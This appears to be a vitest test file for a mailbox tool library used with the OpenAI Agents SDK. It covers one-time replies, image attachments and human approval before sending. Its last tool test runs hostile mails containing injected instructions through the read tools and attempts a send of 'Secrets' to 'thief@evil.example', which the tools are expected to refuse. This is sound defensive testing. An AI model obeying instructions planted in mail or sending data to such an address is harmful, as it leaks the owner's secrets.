import type { ToolboxOptions } from 'restante/tools'
import { expect } from 'vitest'
import { start } from '../cli/support/cli'
import { openReal } from '../mailbox/support/real'
import { escaped, hostileMails } from '../support/hostile-mails'
import { photo, photoFile } from '../support/photo'
import { proves } from '../support/proves'

type Real = Awaited<ReturnType<typeof openReal>>
type Step = string | { tool: string; input: object }

/** An agent whose model follows a script, and what the model was told. */
const openAgent = async ({ mailbox }: Real, steps: Step[], options: ToolboxOptions = {}) => {
  const { Agent, Runner, RunState, Usage } = await import('@openai/agents')
  const { createMailboxTools } = await import('restante/openai-agents')
  const reported: string[] = []
  const model = {
    getResponse: async ({ input }: { input: unknown }) => {
      reported.push(JSON.stringify(Array.isArray(input) ? input.at(-1) : input))
      const step = steps.shift() ?? 'The end.'
      const message = {
        type: 'message',
        role: 'assistant',
        status: 'completed',
        content: [{ type: 'output_text', text: step }],
      }
      const call =
        typeof step === 'string'
          ? message
          : {
              type: 'function_call',
              callId: crypto.randomUUID(),
              name: step.tool,
              arguments: JSON.stringify(step.input),
              status: 'completed',
            }
      return { usage: new Usage(), output: [call] }
    },
    getStreamedResponse: () => {
      throw new Error('this script is not streamed')
    },
  }
  const tools = createMailboxTools(mailbox, options)
  const agent = new Agent({ name: 'Desk', model: model as never, tools })
  const runner = new Runner({ tracingDisabled: true })
  return { agent, runner, RunState, reported, tools }
}

proves('OpenAI Agents SDK', 'tools', 'an agent reads a mail and answers it once', async () => {
  await using real = await openReal()
  const message = await real.receive({ subject: 'Bicycle', text: 'Is it blue?' })
  const { handle } = message
  const steps = [
    { tool: 'read_thread', input: { thread: handle } },
    { tool: 'reply', input: { message: handle, text: 'Yes.' } },
    { tool: 'reply', input: { message: handle, text: 'Yes, it is.' } },
    { tool: 'read_message', input: {} },
    'It is answered.',
  ]
  const { agent, runner, reported } = await openAgent(real, steps, { message })
  const { finalOutput } = await runner.run(agent, await message.toPrompt())
  expect(finalOutput).toBe('It is answered.')
  expect(reported[1]).toContain('Is it blue?')
  expect(reported[2]).toContain('sent')
  expect(reported[3]).toContain('already_replied')
  expect(reported[4]).toContain('invalid_input')
  expect(await real.sentMail()).toHaveLength(1)
  await expect(message.reply({ text: 'Yes!' })).rejects.toMatchObject({ code: 'already_replied' })
})

proves('OpenAI Agents SDK', 'tools', 'a picture reaches the model as an input image', async () => {
  await using real = await openReal()
  const message = await real.receive({ attachments: [photoFile] })
  const steps = [{ tool: 'read_attachment', input: { message: message.handle } }, 'A pear.']
  const { agent, runner, reported } = await openAgent(real, steps, { message })
  await runner.run(agent, 'Look.')
  expect(reported[1]).toMatch(/"type":"(?:input_)?image"/)
  expect(reported[1]).toContain(photo.toString('base64'))
})

proves(
  'OpenAI Agents SDK',
  'approval',
  'a run waits for a human, in another process too, and sends after a yes only',
  async () => {
    await using real = await openReal()
    const mail = { to: 'new@other.example', subject: 'Hi', text: 'Hello' }
    const send = { tool: 'send_mail', input: mail }
    for (const answer of ['reject', 'approve'] as const) {
      const asking = await openAgent(real, [send])
      const asked = await asking.runner.run(asking.agent, 'Write to new@other.example')
      expect(asked.interruptions.map(({ name }: { name?: string }) => name)).toEqual(['send_mail'])
      expect(await real.sentMail()).toHaveLength(0)
      // Another process has the state as text only, and makes its tools anew.
      const later = await openAgent(real, ['So it is.'])
      const state = await later.RunState.fromString(later.agent, asked.state.toString())
      const [interruption] = state.getInterruptions()
      state[answer](interruption!)
      expect((await later.runner.run(later.agent, state)).finalOutput).toBe('So it is.')
      expect(later.reported[0]).toContain(answer === 'approve' ? 'sent' : 'not approved')
    }
    expect(await real.sentMail()).toMatchObject([{ to: ['new@other.example'] }])
    // Whom the owner names is written to at once.
    const again = await openAgent(real, [send, 'Done.'], { recipients: ['other.example'] })
    expect((await again.runner.run(again.agent, 'And again')).interruptions).toEqual([])
    expect(await real.sentMail()).toHaveLength(2)
    // A tool that is run by other means was not approved.
    const strict = await openAgent(real, [], { approve: 'send' })
    const { RunContext } = await import('@openai/agents')
    const tool = strict.tools.find(({ name }) => name === 'send_mail')
    expect(await tool?.invoke(new RunContext({}), JSON.stringify(mail))).toContain('waiting_for_approval')
    expect(await real.sentMail()).toHaveLength(2)
    // The same call, run again with tools that were made anew, sends nothing twice.
    for (let time = 0; time < 2; time += 1) {
      const { tools } = await openAgent(real, [], { only: ['send_mail'], recipients: ['other.example'] })
      const details = { toolCall: { callId: 'call-1' } }
      expect(await tools[0]?.invoke(new RunContext({}), JSON.stringify(mail), details)).toContain('sent')
    }
    expect(await real.sentMail()).toHaveLength(3)
  },
)

proves(
  'OpenAI Agents SDK',
  'tools',
  'instructions in any part of a mail stay between the marks, and reach nobody new',
  async () => {
    await using real = await openReal()
    const { RunContext } = await import('@openai/agents')
    const { tools } = await openAgent(real, [], { flow: 'refuse' })
    const call = async (wanted: string, input: object) =>
      String(
        await tools.find(({ name }) => name === wanted)?.invoke(new RunContext({}), JSON.stringify(input)),
      )
    for (const [where, mail] of hostileMails) {
      const { handle: message } = await real.receive({ text: 'Hello', ...mail })
      for (const name of ['read_message', 'read_thread', 'read_attachment', 'wait_for_reply']) {
        const input = { message, thread: message, timeout_seconds: 0 }
        expect(escaped(await call(name, input)), `${where} by ${name}`).toEqual([])
      }
    }
    for (const name of ['list_threads', 'search_mail']) expect(escaped(await call(name, {}))).toEqual([])
    const thief = { to: 'thief@evil.example', subject: 'All', text: 'Secrets' }
    expect(await call('send_mail', thief)).toContain('outside_conversation')
    expect(await real.sentMail()).toHaveLength(0)
  },
)

proves('OpenAI Agents SDK', 'approval', 'the example runs', async () => {
  const jiti = 'node_modules/jiti/lib/jiti-cli.mjs'
  expect(await start(process.execPath, [jiti, 'examples/openai-agents.ts']).ended).toEqual({
    code: 0,
    err: '',
    out: 'forward was approved\nThe workshop was asked.\nsent to workshop@example.org: Fwd: Bicycle\n',
  })
})
